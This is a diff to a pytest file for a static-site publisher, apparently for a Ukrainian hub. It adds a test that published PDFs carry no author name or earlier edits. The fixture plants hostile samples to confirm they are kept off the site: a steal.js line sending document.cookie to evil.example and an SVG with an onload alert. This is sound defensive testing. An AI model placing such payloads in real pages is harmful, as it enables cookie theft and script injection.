@@ -20,11 +20,11 @@ import feedparser
 import lxml.html
 import pytest
 from PIL import Image
-from pypdf import PdfWriter
+from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-from conftest import NOW, build, copy_project, post_text, write_pdf, write_post, reader_pages
+from conftest import AUTHOR, NOW, authored, build, copy_project, post_text, revised, write_pdf, write_post, reader_pages
 from hub.commands.cli import main
 
 GPS = 0x8825
@@ -437,7 +437,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     phone_photo(photo / "cover.jpg", (2400, 1800))
     phone_photo(photo / "spare.jpg", (800, 600))  # in the folder, shown nowhere
     (photo / "notes.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
-    write_pdf(photo / "report.pdf")
+    revised(write_pdf(photo / "report.pdf", change=authored), "Maria Ivanchenko, 7")
     scheduled = hostile_post(root, "scheduled-visit", "![Родина](scheduled.jpg)", meta="date: 2026-12-20\n")
     phone_photo(scheduled / "scheduled.jpg", (800, 600))
     summary = write_post(root, "odd-summary", "date: 2026-11-19\n", {
@@ -453,7 +453,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
     (root / "docs" / "assets" / "steal.js").write_text("fetch('https://evil.example/?' + document.cookie)", encoding="utf-8")
     (root / "docs" / "methodology" / "scheme.svg").write_text('<svg onload="alert(1)"/>', encoding="utf-8")
     (root / "docs" / "contacts.txt").write_text("Телефон мами: 067 123 45 67\n", encoding="utf-8")
-    write_pdf(root / "docs" / "methodology" / "guide.pdf")
+    write_pdf(root / "docs" / "methodology" / "guide.pdf", change=authored)
     about = root / "docs" / "about.uk.md"
     about.write_text(about.read_text(encoding="utf-8") + "\n![Команда хабу](assets/team.jpg)\n", encoding="utf-8")
     logo = Image.new("RGB", (900, 300), (0, 90, 160))
@@ -567,10 +567,19 @@ def test_the_feeds_carry_the_copy_and_never_the_original(hostile: Built) -> None
 def test_stray_and_unused_files_are_not_published_and_check_says_so(hostile: Built) -> None:
     published = {path.name for path in hostile.site.rglob("*")}
     assert "notes.txt" not in published and not {name for name in published if name.startswith("spare")}
-    assert (hostile.site / "news/2026/family-visit/report.pdf").read_bytes() == (
-        hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "a linked PDF is published as it is"
     strays = {Path(p["file"]).name for p in hostile.findings("family-visit", "stray-file")}
     assert strays == {"notes.txt", "spare.jpg"}
+
+
+def test_a_linked_pdf_is_published_without_its_authors_name_or_earlier_version(hostile: Built) -> None:
+    """A post's report and a methodology's PDF, as Word exports them and a viewer saves an edit: readers get the
+    pages (and the software's name), not the author's name, the file's name as a title, or the note taken off."""
+    for published in ("news/2026/family-visit/report.pdf", "methodology/guide.pdf"):
+        data = (hostile.site / published).read_bytes()
+        assert AUTHOR.encode() not in data and b"Ivanchenko" not in data, published
+        reader = PdfReader(io.BytesIO(data))
+        assert reader.metadata is None and len(reader.pages) == 1, published
+    assert b"Maria Ivanchenko" in (hostile.root / "news/2026/family-visit/report.pdf").read_bytes(), "the original is kept"
 
 
 def test_docs_publishes_pages_pictures_pdfs_and_the_sites_own_code_only(hostile: Built) -> None:
